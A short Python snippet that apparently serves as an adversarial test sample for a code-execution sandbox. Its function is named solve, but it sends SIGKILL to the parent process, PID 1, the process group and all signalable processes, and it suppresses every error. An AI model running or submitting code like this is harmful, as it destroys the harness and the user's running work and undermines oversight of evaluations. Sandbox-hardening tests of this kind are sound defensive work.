# Tries: send signals to parents and to everyone
# As: function
import os, signal
def solve(x):
    for target in (os.getppid() if hasattr(os, 'getppid') else 1, 1, 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except (OSError, AttributeError, PermissionError):
            continue
    return 'nothing'
